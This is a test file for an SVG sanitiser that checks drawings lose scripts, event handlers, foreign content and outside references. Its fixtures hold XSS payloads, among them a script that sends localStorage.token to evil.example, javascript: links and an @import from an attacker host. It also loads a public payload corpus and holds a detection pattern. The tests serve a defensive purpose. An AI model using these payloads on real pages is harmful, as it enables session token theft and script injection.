import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { DRAWING_ID_PREFIX, inlineDrawing, sanitisedDrawingFile } from './drawing.server';

const svg = (inside: string, root = 'viewBox="0 0 160 40"') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${root}>${inside}</svg>`;

describe('a drawing written into the page', () => {
  it('keeps its shapes and colours, with its view box, or one made of its size', () => {
    expect(inlineDrawing(svg('<rect width="160" height="40" fill="#17498f"/>'))).toEqual({
      viewBox: '0 0 160 40',
      markup: '<rect width="160" height="40" fill="#17498f"></rect>',
    });
    expect(inlineDrawing(svg('<circle r="4"/>', 'width="16" height="4"'))?.viewBox).toBe(
      '0 0 16 4',
    );
    expect(inlineDrawing(svg('<circle r="4"/>', 'width="100%" height="4"'))).toBeNull();
    expect(inlineDrawing('<p>no drawing</p>')).toBeNull();
  });

  it('renames its ids and what refers to them, so that they cannot meet the page’s', () => {
    const { markup } = inlineDrawing(
      svg(
        '<defs><linearGradient id="g"><stop stop-color="#fff"/></linearGradient><path id="p" d="M0 0h9"/></defs>' +
          '<rect fill="url(#g)" stroke="url(\'#g\')"/>' +
          '<text><textPath href="#p">a</textPath><textPath xlink:href="#p">b</textPath></text>',
      ),
    )!;
    expect(markup).toContain(`id="${DRAWING_ID_PREFIX}g"`);
    expect(markup).toContain(`fill="url(#${DRAWING_ID_PREFIX}g)"`);
    expect(markup).toContain(`stroke="url('#${DRAWING_ID_PREFIX}g')"`);
    expect(markup).toContain(`href="#${DRAWING_ID_PREFIX}p"`);
    expect(markup).toContain(`xlink:href="#${DRAWING_ID_PREFIX}p"`);
    expect(markup).toContain('stop-color="#fff"');
    expect(markup).not.toMatch(/id="(g|p)"/);
  });

  it('keeps nothing that runs, links or brings foreign content', () => {
    const { markup } = inlineDrawing(
      svg(
        '<script>alert(1)</script><rect onload="alert(2)" width="9" height="9"/>' +
          '<foreignObject><iframe src="https://example.org"></iframe></foreignObject>' +
          '<a href="javascript:alert(3)"><circle r="2"/></a><style>rect{fill:red}</style>' +
          '<title>Banner</title><animate attributeName="href" to="javascript:alert(4)"/>',
      ),
    )!;
    // A link's shapes stay, without the link.
    expect(markup).toBe('<rect width="9" height="9"></rect><circle r="2"></circle>');
  });

  it('keeps no reference outside itself: a visitor’s browser fetches nothing from another site', () => {
    const away = 'https://otro.example/x';
    const { markup } = inlineDrawing(
      svg(
        `<defs><linearGradient id="g"><stop/></linearGradient><filter id="f"><feImage href="${away}"/><feImage xlink:href="${away}.png"/></filter></defs>` +
          `<image href="${away}.png" width="9" height="9"/><image xlink:href="//otro.example/y.png"/>` +
          `<rect fill="url(${away}#g)" mask="url('${away}')" clip-path="url(&quot;${away}&quot;)" marker-end="url(${away})" width="1"/>` +
          `<rect style="fill:url(#g);stroke:url(${away})" filter="url(#f)" width="2"/>` +
          `<rect style="fill:\\75 rl(${away})" width="3"/><rect style="fill:image-set('${away}' 1x)" width="4"/>` +
          `<use href="${away}#p"/><use href="data:image/svg+xml,<svg/>"/><rect fill="url(#g)" width="5"/>`,
      ),
    )!;
    expect(markup).not.toMatch(/otro\.example|data:/);
    // What refers inside stays, renamed.
    expect(markup).toContain(`<rect fill="url(#${DRAWING_ID_PREFIX}g)" width="5">`);
    expect(markup).toContain(`filter="url(#${DRAWING_ID_PREFIX}f)"`);
    expect(markup).toContain('<rect width="1">');
  });
});

describe('a drawing file as the site serves it', () => {
  const hostile = svg(
    '<title>Plano</title><script>fetch("https://evil.example/?"+localStorage.token)</script>' +
      '<foreignObject><img src="x" onerror="alert(3)"/></foreignObject>' +
      '<defs><linearGradient id="g"><stop stop-color="#fff"/></linearGradient></defs>' +
      '<rect width="9" height="9" fill="url(#g)" onclick="alert(4)"/>' +
      '<image href="https://evil.example/x.png"/><a href="javascript:alert(5)"><text>x</text></a>' +
      '<style>@import url(https://evil.example/a.css)</style>' +
      '<animate attributeName="href" to="javascript:alert(6)"/>',
    'viewBox="0 0 9 9" onload="alert(1)"',
  );

  it('keeps its shapes, ids and title, and nothing that runs or reaches elsewhere, as an SVG document', () => {
    const file = sanitisedDrawingFile(hostile)!;
    expect(file).toContain('<title>Plano</title>');
    expect(file).toContain('<linearGradient id="g">');
    expect(file).toContain('fill="url(#g)"');
    for (const part of [
      'script',
      'onload',
      'onerror',
      'onclick',
      'foreignObject',
      'evil',
      'javascript',
      'style',
      '<a',
    ])
      expect(file).not.toContain(part);
    // A document an XML parser reads, with the SVG namespace.
    const parsed = new JSDOM(file, { contentType: 'image/svg+xml' }).window.document;
    expect(parsed.documentElement.namespaceURI).toBe('http://www.w3.org/2000/svg');
    expect(parsed.documentElement.getAttribute('viewBox')).toBe('0 0 9 9');
  });

  it('is null for a file that holds no drawing', () => {
    expect(sanitisedDrawingFile('<html><body><script>alert(1)</script></body></html>')).toBeNull();
    expect(sanitisedDrawingFile('no es un dibujo')).toBeNull();
  });

  const corpus = path.resolve('../shared/corpus/xss-payloads.json');
  it.skipIf(!existsSync(corpus))(
    'keeps nothing that runs of the 1,500 public payloads, each inside a drawing',
    () => {
      const entries = JSON.parse(readFileSync(corpus, 'utf8')) as { id: string; payload: string }[];
      // What could run or reach elsewhere, read from the file as an XML parser reads it.
      const parser = new new JSDOM('').window.DOMParser();
      const activeParts = (file: string) => {
        const document = parser.parseFromString(file, 'image/svg+xml');
        if (document.querySelector('parsererror')) return ['not XML'];
        return [...document.querySelectorAll('*')].flatMap((element) => [
          ...(/^(script|foreignobject|iframe|object|embed|a|style|use)$/i.test(element.localName)
            ? [element.localName]
            : []),
          ...[...element.attributes]
            .filter(
              ({ name, value }) =>
                !/^xmlns/.test(name) &&
                (/^on/i.test(name) ||
                  /javascript:|data:|https?:/i.test(value) ||
                  (/href$/i.test(name) && !value.startsWith('#'))),
            )
            .map(({ name, value }) => `${name}=${value}`),
        ]);
      };
      const found = entries.flatMap(({ id, payload }) => {
        const file = sanitisedDrawingFile(svg(payload, 'viewBox="0 0 9 9"'));
        return file ? activeParts(file).map((part) => `${id}: ${part}`) : [];
      });
      expect(found).toEqual([]);
    },
    60_000,
  );
});
